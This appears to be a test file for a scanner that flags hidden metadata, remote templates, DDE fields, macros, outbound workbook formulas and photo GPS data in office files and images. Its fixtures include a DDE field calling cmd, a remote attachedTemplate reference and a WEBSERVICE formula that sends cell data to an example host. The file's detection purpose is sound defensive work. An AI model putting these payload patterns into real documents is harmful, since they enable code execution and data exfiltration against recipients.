@@ -1,0 +1,192 @@
+// What office packages and pictures carry beside their text: properties with people, references outward, formulas that fetch, positions of photographs.
+import { pictureFacts } from '@shared/analysis/content/exif';
+import { isPerson } from '@shared/analysis/content/properties';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { contents, filesOf, pack, rowsXml, workbook } from './readers-support';
+
+const CORE = (creator: string, last: string) =>
+  `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>${creator}</dc:creator><cp:lastModifiedBy>${last}</cp:lastModifiedBy></cp:coreProperties>`;
+const relations = (...external: [string, string][]) =>
+  `<Relationships>${external.map(([type, target], i) => `<Relationship Id="x${i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`).join('')}</Relationships>`;
+const document = (body: string, more: Readonly<Record<string, string | Uint8Array>> = {}) =>
+  pack(
+    Object.entries({
+      '[Content_Types].xml': '<Types/>',
+      'word/document.xml': `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
+      ...more,
+    }).map(([name, bytes]) => ({ name, bytes })),
+  );
+const P = '<w:p><w:r><w:t>示例</w:t></w:r></w:p>';
+const found = async (bytes: Uint8Array) => (await filesOf(bytes)).flatMap((file) => contents(file));
+
+/** A TIFF block: the first table with an artist and a pointer to a table of positions (EXIF 2.32, 4.6). */
+function exif(little: boolean, { artist = '      ', gps = true }: { artist?: string; gps?: boolean }): Uint8Array {
+  const bytes = new Uint8Array(200);
+  const view = new DataView(bytes.buffer);
+  bytes.set(little ? [0x49, 0x49, 0x2a, 0] : [0x4d, 0x4d, 0, 0x2a]);
+  view.setUint32(4, 8, little);
+  view.setUint16(8, 2, little);
+  const tag = (at: number, id: number, type: number, count: number, value: number) => {
+    view.setUint16(at, id, little);
+    view.setUint16(at + 2, type, little);
+    view.setUint32(at + 4, count, little);
+    view.setUint32(at + 8, value, little);
+  };
+  const name = new TextEncoder().encode(`${artist}\0`);
+  tag(10, 0x013b, 2, name.length, 120);
+  bytes.set(name, 120);
+  tag(22, 0x8825, 4, 1, 60);
+  view.setUint16(60, gps ? 2 : 0, little);
+  if (gps) {
+    tag(62, 2, 5, 3, 150);
+    tag(74, 4, 5, 3, 150);
+  }
+  return bytes;
+}
+function jpeg(block: Uint8Array): Uint8Array {
+  const length = block.length + 8;
+  return Uint8Array.from([
+    0xff,
+    0xd8,
+    0xff,
+    0xe1,
+    length >> 8,
+    length & 0xff,
+    0x45,
+    0x78,
+    0x69,
+    0x66,
+    0,
+    0,
+    ...block,
+    0xff,
+    0xda,
+    0,
+    2,
+    0xff,
+    0xd9,
+  ]);
+}
+function png(kind: string, data: Uint8Array): Uint8Array {
+  const chunk = new Uint8Array(12 + data.length);
+  new DataView(chunk.buffer).setUint32(0, data.length);
+  chunk.set(new TextEncoder().encode(kind), 4);
+  chunk.set(data, 8);
+  return Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...chunk]);
+}
+
+describe('properties of an office file', () => {
+  it('name the people in them, programs and unset accounts aside', async () => {
+    expect(await found(document(P, { 'docProps/core.xml': CORE('林审一', '周复二') }))).toEqual([['METADATA_PERSON', 2]]);
+    expect(await found(document(P, { 'docProps/core.xml': CORE('林审一', '林审一') }))).toEqual([['METADATA_PERSON', 1]]);
+    expect(await found(document(P, { 'docProps/core.xml': CORE('openpyxl', 'Administrator') }))).toEqual([]);
+    expect(
+      await found(
+        document(P, {
+          'docProps/app.xml': '<Properties><Application>WPS</Application><Company>示例数据公司</Company><Manager></Manager></Properties>',
+        }),
+      ),
+    ).toEqual([['METADATA_PERSON', 1]]);
+    const custom =
+      '<Properties><property name="编制人"><lpwstr>林审一</lpwstr></property><property name="页数"><i4>3</i4></property></Properties>';
+    expect(await found(document(P, { 'docProps/custom.xml': custom }))).toEqual([['METADATA_PERSON', 1]]);
+    const book = workbook(
+      [
+        {
+          name: 'a',
+          xml: rowsXml([
+            ['x', 'y'],
+            [1, 2],
+          ]),
+        },
+      ],
+      { 'docProps/core.xml': CORE('林审一', '') },
+    );
+    expect(await found(book)).toEqual([['METADATA_PERSON', 1]]);
+    expect([isPerson('Lenovo'), isPerson('管理员'), isPerson('Microsoft Office User'), isPerson('王示例')]).toEqual([
+      false,
+      false,
+      false,
+      true,
+    ]);
+  });
+  it('are masked', async () => {
+    const [, file] = await filesOf(document(P, { 'docProps/core.xml': CORE('林审一', '') }));
+    expect(file?.content?.[0]?.samples).toEqual(['林*一']);
+    expect(JSON.stringify(file)).not.toContain('林审一');
+  });
+});
+
+describe('what a package refers to', () => {
+  it('is fetched when it is a template, a picture or an object, and waits when it is a link', async () => {
+    const rels = { 'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'https://a.shili.jp/t.dotm']) };
+    expect(await found(document(P, rels))).toEqual([
+      ['FOREIGN_HOST', 1],
+      ['REMOTE_PART', 1],
+    ]);
+    const link = { 'word/_rels/document.xml.rels': relations(['hyperlink', 'https://www.gov.cn/'], ['hyperlink', 'mailto:a@example.com']) };
+    expect(await found(document(P, link))).toEqual([]);
+    const share = { 'word/_rels/document.xml.rels': relations(['image', '\\\\fileserver\\x\\a.png']) };
+    expect(await found(document(P, share))).toEqual([
+      ['INTERNAL_HOST', 1],
+      ['REMOTE_PART', 1],
+    ]);
+  });
+  it('includes fields that run and macros', async () => {
+    const field = '<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows cmd </w:instrText></w:r></w:p>';
+    expect(await found(document(field))).toEqual([['ACTIVE_CONTROL', 1]]);
+    expect(await found(document('<w:p><w:fldSimple w:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'))).toEqual([]);
+    expect(await found(document(P, { 'word/vbaProject.bin': 'x' }))).toEqual([['MACRO', 1]]);
+  });
+});
+
+describe('formulas of a workbook', () => {
+  it('are counted when they leave it', async () => {
+    const cell = (at: string, formula: string) => `<c r="${at}"><f>${formula}</f><v>1</v></c>`;
+    const xml = `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>项</t></is></c><c r="B1" t="inlineStr"><is><t>值</t></is></c></row>
+      <row r="2">${cell('A2', 'SUM(B2:B9)')}${cell('B2', 'WEBSERVICE("http://a.shili.jp/?"&amp;A1)')}</row>
+      <row r="3">${cell('A3', 'HYPERLINK("#b!A1","x")')}${cell('B3', "'C:\\[a.xlsx]b'!A1")}</row></sheetData>`;
+    const [file] = await filesOf(workbook([{ name: 'a', xml }]));
+    expect(contents(file)).toEqual([['FORMULA_REACHES_OUT', 2]]);
+  });
+});
+
+describe('pictures', () => {
+  it('tell who and where in either byte order', () => {
+    for (const little of [true, false]) {
+      expect(pictureFacts(jpeg(exif(little, { artist: 'Lin Shenyi' })))).toEqual({ people: ['Lin Shenyi'], position: true, serial: null });
+      expect(pictureFacts(png('eXIf', exif(little, { gps: false })))).toEqual({ people: [], position: false, serial: null });
+    }
+    expect(pictureFacts(png('tEXt', new TextEncoder().encode('Author\0Lin Shenyi')))).toMatchObject({ people: ['Lin Shenyi'] });
+  });
+  it('in a document and in an archive are read for their properties, and left to a person', async () => {
+    const picture = jpeg(exif(true, { artist: 'Lin Shenyi' }));
+    expect(await found(document(P, { 'word/media/image1.jpg': picture }))).toEqual([
+      ['METADATA_PERSON', 1],
+      ['METADATA_POSITION', 1],
+    ]);
+    const files = await filesOf(pack([{ name: 'a.jpg', bytes: picture }]));
+    expect(files.map(({ partly, content }) => [partly?.code, content?.map(({ code }) => code)])).toEqual([
+      ['FORMAT_NOT_READ', ['METADATA_PERSON', 'METADATA_POSITION']],
+    ]);
+  });
+  it('that lie about themselves are read as nothing, whatever their bytes', () => {
+    const honest = jpeg(exif(true, { artist: 'Lin Shenyi' }));
+    fc.assert(
+      fc.property(fc.nat(honest.length - 1), fc.nat(255), fc.nat(honest.length), (at, byte, cut) => {
+        const bytes = honest.slice(0, cut);
+        bytes[at % Math.max(cut, 1)] = byte;
+        expect(() => pictureFacts(bytes)).not.toThrow();
+      }),
+      { numRuns: 500 },
+    );
+    fc.assert(
+      fc.property(fc.uint8Array({ maxLength: 300 }), (noise) => {
+        expect(() => pictureFacts(jpeg(noise))).not.toThrow();
+        expect(() => pictureFacts(png('eXIf', noise))).not.toThrow();
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
